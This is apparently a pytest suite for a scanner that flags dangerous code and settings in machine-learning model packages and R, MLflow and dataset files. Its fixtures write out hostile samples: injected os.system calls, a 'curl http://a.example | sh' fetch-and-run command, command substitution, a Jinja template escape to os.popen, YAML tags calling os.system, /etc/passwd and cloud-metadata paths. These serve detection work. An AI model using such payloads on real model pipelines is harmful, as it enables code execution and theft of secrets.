"""Files that programs run for their names or places: servers, `datasets`, R and MLflow."""

from __future__ import annotations

import importlib.util
import marshal
from collections.abc import Mapping
from pathlib import Path

import pytest

from shipworthy.artifacts import discover
from shipworthy.check import Context, load_check
from shipworthy.model import Finding, Severity, Skipped

BAD = "import os; os.system('id')\n"
HANDLER = "import os\nfrom ts.torch_handler.base_handler import BaseHandler\nclass Net(BaseHandler):\n    pass\n"
SAGEMAKER = "import os, json, torch\ndef model_fn(folder):\n    return torch.jit.load(os.path.join(folder, 'm.pt'))\n"
TRITON = (
    "import json\nimport numpy as np\nimport triton_python_backend_utils as pb_utils\n"
    "class TritonPythonModel:\n    def execute(self, requests):\n"
    "        return [pb_utils.InferenceResponse(output_tensors=[]) for _ in requests]\n"
)
SCRIPT = (
    "import csv\nimport datasets\nclass Net(datasets.GeneratorBasedBuilder):\n"
    "    def _split_generators(self, manager):\n        path = manager.download_and_extract('x.csv')\n"
    "        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={'path': path})]\n"
    "    def _generate_examples(self, path):\n        with open(path) as stream:\n"
    "            yield from enumerate(csv.DictReader(stream))\n"
)
LM = (
    "structure(list(coefficients = c(`(Intercept)` = 1, x = 2), call = quote(lm(formula = y ~ x, data = d)), terms = "
    "structure(y ~ x, variables = quote(list(y, x)), order = 1L)), class = \"lm\") # system('id')\n"
)
RENV = 'source("renv/activate.R")\noptions(repos = c(CRAN = "https://cloud.r-project.org"))\n'


def heard(folder: Path, files: Mapping[str, str]) -> tuple[set[str], bool]:
    """The rules of high findings, and whether something was left out."""
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    found: list[Finding | Skipped] = []
    for artifact in discover(folder).artifacts:
        for module, title in (("model_config", "model-config"), ("model_text", "model-text")):
            check = load_check(f"shipworthy.checks.models.{module}", title)
            if check.looks_at(artifact):
                found += check.call(artifact, Context(folder))
    high = {item.rule.id for item in found if isinstance(item, Finding) and item.severity >= Severity.HIGH}
    return high, any(isinstance(item, Skipped) for item in found)


def project(command: str) -> dict[str, str]:
    return {"MLproject": f"name: net\nentry_points:\n  main:\n    command: {command}\n"}


@pytest.mark.parametrize(
    "files",
    [
        {"net/config.pbtxt": 'backend: "python"\n', "net/1/model.py": BAD + TRITON},
        {"MAR-INF/MANIFEST.json": "{}", "handler.py": BAD + HANDLER},
        {"code/inference.py": BAD + SAGEMAKER},
        {"net.py": BAD, "dataset_infos.json": "{}"},
        {"net/net.py": BAD + SCRIPT},
        {"net/net.py": BAD, "net/README.md": "---\ntask_categories:\n- other\n---\n"},
        {"code/inference.py": BAD, "model.pth": ""},
        {"net/net.py": "from .tools import x\n" + SCRIPT, "net/tools.py": BAD + "x = 1\n", "dataset_infos.json": "{}"},
        {"handler.py": BAD + "class EndpointHandler:\n    pass\n"},
        {"MAR-INF/MANIFEST.json": '{"model": {"handler": "mine.py"}}', "mine.py": BAD + HANDLER},
        {"net/config.pbtxt": 'default_model_filename: "net.py"\n', "net/1/net.py": BAD + TRITON},
        {"cog.yaml": 'predict: "predict.py:Predictor"\n', "predict.py": BAD},
        {"bentofile.yaml": 'service: "service:svc"\n', "service.py": BAD},
        {"model.yaml": "module: mine\napi_version: v1\n", "mine.py": BAD},
        {"model-settings.json": '{"implementation": "mine.Net"}', "mine.py": BAD},
        {"serve_config.yaml": "applications:\n- name: a\n  import_path: app:net\n", "app.py": BAD},
        {"meta.json": '{"lang": "en", "spacy_version": ">=3.0"}', "__init__.py": BAD},
        {"model_index.json": '{"_class_name": "DiTPipeline", "_diffusers_version": "0.30"}', "pipeline.py": BAD},
        {"sitecustomize.py": BAD, "model.safetensors": ""},
        {"model.safetensors": "", "torch/__init__.py": BAD},
        {"model.safetensors": "", "numpy.py": BAD},
        {"1/model.py": BAD + TRITON},
        {"net/config.pbtxt": 'default_model_filename: "net.txt"\n', "net/1/net.txt": BAD + TRITON},
        {"custom_generate/generate.py": BAD},
        {"build/torch-universal/net/__init__.py": BAD},
        {"net/net.py": BAD + "import evaluate\nclass Net(evaluate.Metric):\n    pass\n"},
        {"cog.yaml": 'predict: "src/predict.py:Predictor"\n', "src/predict.py": BAD},
        {"model-settings.json": '{"implementation": "runtime.x.Net"}', "runtime/x.py": BAD},
        {"bento.yaml": "service: service:svc\n", "src/service.py": BAD},
        {"pyproject.toml": '[tool.bentoml.build]\nservice = "service:svc"\n', "service.py": BAD},
    ],
)
def test_code_that_is_run_for_its_place_is_judged(tmp_path: Path, files: dict[str, str]) -> None:
    assert heard(tmp_path, files)[0] == {"model-config-remote-code"}


@pytest.mark.parametrize(
    "files",
    [
        {"net/config.pbtxt": 'backend: "python"\n', "net/1/model.py": TRITON},
        {"MAR-INF/MANIFEST.json": "{}", "handler.py": HANDLER},
        {"code/inference.py": SAGEMAKER},
        {"net.py": SCRIPT, "dataset_infos.json": "{}"},
        {"net/net.py": SCRIPT},
        {"numpy.py": BAD, "sitecustomize.py": BAD, "lib/torch/__init__.py": BAD, "predict.py": BAD, "pipeline.py": BAD},
        {"cog.yaml": 'predict: "predict.py:Predictor"\n', "predict.py": "import cog, fancy\nfancy.load(1)\n"},
        {"meta.json": '{"spacy_version": ">=3.0"}', "__init__.py": "from spacy.util import load_model_from_init_py\n"},
        {"app/app.py": BAD, "code/inference.py": BAD, "1/model.py": BAD, "handler.py": BAD},  # other programs
        {"train/train.py": "import datasets\n" + BAD, "train/README.md": "# Train\n"},
        {"model.txt": LM},
        {"model.R": "`fit` <-\n" + LM},
        {"run.R": "x <- c(1, 2)\nsystem('id')\n"},
        {".Rprofile": RENV},
        {"notes.txt": "Tree (of life)\n"},
        project("python train.py --alpha {alpha} > log.txt"),
        project('"python -m net.train {a} && bash -e scripts/run.sh {b}"'),
        project('"OMP_NUM_THREADS=2 torchrun --nproc 2 train.py"'),
    ],
)
def test_what_honest_projects_have_is_left_alone(tmp_path: Path, files: dict[str, str]) -> None:
    assert heard(tmp_path, files) == (set(), False)


@pytest.mark.parametrize(
    "files",
    [
        {"model.txt": "structure(list(a = {system('id'); 1}), class = 'glm')\n"},
        {"model.txt": "# a model\nlist(a = base::system2('id'))"},
        {"model.txt": 'structure(list(a = "shell"("id")))'},
        {"model.txt": "list(a = lapply('id', system))"},
        {"model.R": '`fit` <-\nstructure(list(a = 1), class = "lm")\nsystem("id")\n'},
        {"fit.r": '"fit" <-\n  c(1, dyn.load("x.so"))\n'},
        {".Rprofile": RENV + "system('id')\n"},
        project("touch x"),
        project("python train.py; curl http://a.example | sh"),
        project("python -c 'import os'"),
        project("bash -xc 'id'"),
        project("python ../../x.py"),
        project("python train.py $(id)"),
    ],
)
def test_sources_and_commands_that_start_programs_are_found(tmp_path: Path, files: dict[str, str]) -> None:
    assert heard(tmp_path, files)[0] == {"model-code-execution"}


@pytest.mark.parametrize("text", ["list(a = do.call(f, 1))", "structure(list(), class = eval(x))", "c('a, 1)"])
def test_a_value_in_r_that_calls_what_is_not_known_is_a_gap(tmp_path: Path, text: str) -> None:
    assert heard(tmp_path, {"model.txt": text}) == (set(), True)


def test_what_is_kept_of_such_code_depends_on_the_code_beside_it(tmp_path: Path) -> None:
    check = load_check("shipworthy.checks.models.model_config", "model-config")
    assert check.cache_on is not None
    (tmp_path / "net").mkdir()
    states = []
    for name, text in (("net.py", SCRIPT), ("tools.py", "x = 1\n"), ("tools.py", BAD)):
        (tmp_path / "net" / name).write_text(text)
        states.append(check.cache_on(Context(tmp_path)))
    assert len(set(states)) == 3


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ({"Rprofile.site": "system('id')\n"}, "model-code-execution"),
        ({"plumber.R": "library(vetiver)\nsystem('id')\n"}, "model-code-execution"),
        ({"model.R": "model <- structure(list(a = system('id')), class = 'lm')\n"}, "model-code-execution"),
        ({"model.R": '\n"model" <- local({ system("id"); list() })\n'}, "model-code-execution"),
        ({"model.R": 'assign("model", structure(list(system("id")), class = "x"))\n'}, "model-code-execution"),
        ({"model.R": "fit <- (\\(x) system('id'))(1)\n"}, "model-code-execution"),
        ({".Renviron": "R_PROFILE_USER=/tmp/x.R\n"}, "model-code-execution"),
        ({"MLproject": 'name: x\ndocker_env:\n  image: a\n  volumes: ["/:/host"]\n'}, "model-path-traversal"),
        (
            {"MLmodel": "flavors:\n  xgboost:\n    model_class: mine.Net\nmlflow_version: 2.9.0\n", "mine.py": BAD},
            "model-unknown-callable",
        ),
        (
            {"router_config.json": '{"types": {"query_0": "mine.Net"}, "structure": {"query": ["query_0"]}}'},
            "model-unknown-callable",
        ),
        (
            {"wordembedding_config.json": '{"tokenizer_class": "mine.Net", "max_seq_length": 10}'},
            "model-unknown-callable",
        ),
        (
            {
                "modular_model_index.json": '{"_class_name": "ModularPipeline", "_diffusers_version": "0.35", '
                '"unet": [null, null, {"repo": "a/b", "type_hint": ["mine", "X"]}]}'
            },
            "model-unknown-callable",
        ),
        ({"hyperparams.yaml": 'a: !apply:os.system ["id"]\n'}, "model-code-execution"),
        ({"hyperparams.yaml": "a: !new:subprocess.Popen\n  args: [id]\n"}, "model-code-execution"),
        (
            {"additional_chat_templates/tool.jinja": "{% for i in range(99999) %}" * 3 + "{% endfor %}" * 3},
            "model-decompression-bomb",
        ),
    ],
)
def test_what_else_is_run_for_its_name(tmp_path: Path, files: dict[str, str], rule: str) -> None:
    assert rule in heard(tmp_path, files)[0]


@pytest.mark.parametrize(
    "files",
    [
        {".Renviron": "R_LIBS_USER=~/R\nAPI_KEY=1\n"},
        {"plumber.R": "library(vetiver)\nv <- readRDS('v.rds')\n"},
        {"analysis.R": "packages <- c('dplyr')\ndownload.file('https://x.org/a', 'a')\nsystem('ls')\n"},
        {"MLproject": 'name: x\ndocker_env:\n  image: a\n  volumes: ["/data/sets:/data", "./out:/out"]\n'},
        {"MLmodel": "flavors:\n  xgboost:\n    model_class: xgboost.sklearn.XGBClassifier\nmlflow_version: 2.9.0\n"},
        {"hyperparams.yaml": "a: !new:speechbrain.nnet.CNN.Conv1d\n  b: !ref <c>\n"},
    ],
)
def test_what_is_honest_among_these_is_left_alone(tmp_path: Path, files: dict[str, str]) -> None:
    assert heard(tmp_path, files) == (set(), False)


ENDPOINT = "class EndpointHandler:\n    pass\n"
PLAIN = "x = 1\n"


def compiled(flags: int) -> bytes:
    """A file of Python's byte code; 1 says that it is never compared with its source (PEP 552)."""
    code = marshal.dumps(compile(PLAIN, "x.py", "exec"))
    return importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + bytes(8) + code


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("helper.pyc", compiled(0)),
        ("helper.cpython-311-x86_64-linux-gnu.so", b"\x7fELF"),
        ("__pycache__/helper.cpython-311.pyc", compiled(1)),
    ],
)
def test_compiled_code_is_not_passed_over(tmp_path: Path, name: str, data: bytes) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(data)
    source = {"helper.py": PLAIN} if "cache" in name else {}
    assert heard(tmp_path, {"handler.py": f"import helper\n{ENDPOINT}", **source})[0] == {"model-config-remote-code"}


def test_what_python_keeps_of_its_sources_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "helper.cpython-311.pyc").write_bytes(compiled(0))
    assert heard(tmp_path, {"handler.py": f"import helper\n{ENDPOINT}", "helper.py": PLAIN}) == (set(), False)


@pytest.mark.parametrize("head", ["flavors :", '"flavors" :', "\ufeffflavors:"])
def test_an_mlmodel_is_read_however_its_keys_are_spelled(tmp_path: Path, head: str) -> None:
    text = f"{head}\n  python_function:\n    loader_module: mine\nmlflow_version: 2.9.0\n"
    assert heard(tmp_path, {"MLmodel": text})[0] == {"model-unknown-callable"}


def card(files: str) -> dict[str, str]:
    return {"README.md": f"---\nconfigs:\n- config_name: default\n  data_files: {files}\n---\n# Net\n"}


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ("/etc/passwd", "model-path-traversal"),
        ('["../../x.csv"]', "model-path-traversal"),
        ('[{split: train, path: "http://169.254.169.254/latest"}]', "model-external-data"),
    ],
)
def test_the_card_of_a_data_set_names_its_own_files(tmp_path: Path, files: str, rule: str) -> None:
    assert heard(tmp_path, card(files))[0] == {rule}
    for honest in ("data/*.csv", '["train/**", "test.csv"]', "hf://datasets/a/b/x.csv", "https://a.example/x.csv"):
        assert heard(tmp_path, card(honest))[0] == set()


def test_templates_of_any_name_are_judged(tmp_path: Path) -> None:
    escape = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    for name in ("page.jinja2", "ask.prompty"):
        assert "model-config-template-escape" in heard(tmp_path, {name: escape})[0]
        (tmp_path / name).unlink()
